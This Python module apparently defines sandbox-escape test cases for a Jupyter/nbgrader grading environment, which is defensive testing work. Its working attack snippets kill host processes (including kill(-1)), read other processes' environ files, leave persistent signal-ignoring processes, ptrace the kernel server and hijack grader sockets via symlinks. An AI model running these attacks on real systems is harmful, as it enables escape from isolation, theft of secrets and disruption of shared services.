"""Attacks that want out of the kernel's own surroundings."""

from typing import Any

from .attack import (
    NBGRADER,
    NONE,
    WRONG,
    Attack,
    Witness,
    connects,
    ends_victim,
    leaves_file,
    leaves_process,
    prints,
)

BOTH = (NONE, NBGRADER)

_TRY = """
import ctypes, os, signal, socket, subprocess
def attempt(action):
    try:
        return action()
    except BaseException as error:
        print(type(error).__name__, error)
libc = ctypes.CDLL(None, use_errno=True)
"""


def tries(source: str) -> str:
    return _TRY + source + "\n" + WRONG


_TCP = """
def call():
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as wire:
        wire.sendall(b"@MARK@\\n")
attempt(call)
"""

_UNIX = """
def call(path):
    with socket.socket(socket.AF_UNIX) as wire:
        wire.connect(path)
        wire.sendall(b"@MARK@\\n")
for path in ("@SOCKET@", "/proc/1/root@SOCKET@", f"/proc/{os.getppid()}/root@SOCKET@"):
    attempt(lambda: call(path))
"""

_SIGNALS = """
attempt(lambda: os.kill(@VICTIM@, signal.SIGKILL))
attempt(lambda: os.killpg(@VICTIM@, signal.SIGKILL))
attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGKILL))
attempt(lambda: subprocess.run(["kill", "-9", "@VICTIM@"], check=True))
"""

_LOOKS = """
attempt(lambda: print(*(name + "/" + open(f"/proc/{name}/comm").read().strip() for name in os.listdir("/proc") if name.isdigit())))
attempt(lambda: print("a process of the host" if open("/proc/@VICTIM@/cmdline").read().startswith("sleep") else "none"))
attempt(lambda: print(os.listdir("/proc/@VICTIM@/cwd"), "a process of the host"))
"""

_PROCESS = """
command = [__import__("sys").executable, "-c", "import time; time.sleep(600)", "@MARK@"]
attempt(lambda: subprocess.Popen(command, start_new_session=True))
def double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.execv(command[0], command)
        os._exit(0)
attempt(double_fork)
"""

_FILES = """
import pathlib, tempfile
for place in ("/tmp", "/dev/shm", "@PREFIX@", "/root", os.path.expanduser("~"), "/var/tmp"):
    attempt(lambda: pathlib.Path(place, "@MARK@").write_text("left"))
"""

_ALL = "attempt(lambda: os.kill(-1, signal.SIGKILL))\n"


_SERVER = """
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
seen = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, 2, os.getppid(), @VICTIM@}
for pid in sorted(seen - {0, os.getpid()}):
    if os.path.exists(f"/proc/{pid}/stat") and libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
        print("hold of a process", open(f"/proc/{pid}/cmdline").read())
        libc.ptrace(17, pid, 0, 0)
    attempt(lambda: print(open(f"/proc/{pid}/environ").read()))
attempt(lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 and not os.path.exists("@COURSE@") else None)
"""

_DESCRIPTORS = """
import array, json, stat
for number in range(3, 1024):
    try:
        mode, target = os.fstat(number).st_mode, os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
        print("an open file", target) if "ipython" not in target and "history" not in target else None
    elif stat.S_ISSOCK(mode):
        wire = socket.socket(fileno=os.dup(number))
        # the server takes requests on sockets of this kind
        if wire.type & 0xF == socket.SOCK_SEQPACKET:
            print("an open socket", target)
            attempt(lambda: wire.send(json.dumps({"connection": {}, "limits": {}, "scratch": 1}).encode()))
"""


_LINKS = """
import glob, pathlib
folder = pathlib.Path("/run/kernel") if pathlib.Path("/run/kernel").exists() else None
for path in glob.glob("/run/kernel/*"):
    os.unlink(path)
    os.symlink("@SOCKET@", path)
import time
kernel = get_ipython().kernel
app = __import__("ipykernel.kernelapp").kernelapp.IPKernelApp.instance()
attempt(lambda: app.heartbeat.socket.close(0))
def stop_heart():
    for number in range(3, 300):
        try:
            wire = socket.socket(fileno=os.dup(number))
            if wire.family == socket.AF_UNIX and "kernel-5" in str(wire.getsockname()):
                wire.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
attempt(stop_heart)
time.sleep(2.5)
def double(x):
    time.sleep(0.2)
    return 3 * x
def leave():
    os._exit(1)
"""


def escape(name: str, aim: str, witness: Witness, source: str, **more: Any) -> Attack:
    more.setdefault("kernel", True)
    return Attack(name, aim, witness, tries(source), **more)


ATTACKS = [
    escape("calls-a-port-of-the-host", "Reach a server on 127.0.0.1.", connects, _TCP, proofs=BOTH),
    escape(
        "calls-a-socket-of-the-host",
        "Reach a server on a unix socket of the host.",
        connects,
        _UNIX,
        proofs=BOTH,
    ),
    escape(
        "looks-at-the-hosts-processes",
        "See a process of the host and its folder.",
        prints("a process of the host"),
        _LOOKS,
        proofs=BOTH,
    ),
    escape(
        "ends-a-process-of-the-host",
        "Kill a process that it has the number of.",
        ends_victim,
        _SIGNALS,
        proofs=BOTH,
        alone=True,
    ),
    escape(
        "leaves-a-process", "Leave a process that outlives the kernel.", leaves_process, _PROCESS, proofs=BOTH
    ),
    escape("leaves-a-file", "Leave a file for the next student.", leaves_file, _FILES, proofs=BOTH),
    escape("signals-everything", "Kill every process that it may signal.", ends_victim, _ALL, harmful=True),
    escape(
        "takes-hold-of-the-server",
        "Trace or end the server that forks the kernels.",
        prints("hold of a process"),
        _SERVER,
        unfit=(NONE, NBGRADER),
    ),
    escape(
        "uses-inherited-descriptors",
        "Find an open file or the server's control socket.",
        prints("an open "),
        _DESCRIPTORS,
        unfit=(NONE, NBGRADER),
    ),
    escape(
        "replaces-its-sockets-by-links",
        "Have the grader connect to a socket of the host in place of the kernel's.",
        lambda case: "made the grader connect" if case.course.listeners.heard.get("unmarked") else "",
        _LINKS,
        unfit=(NONE, NBGRADER),
    ),
]
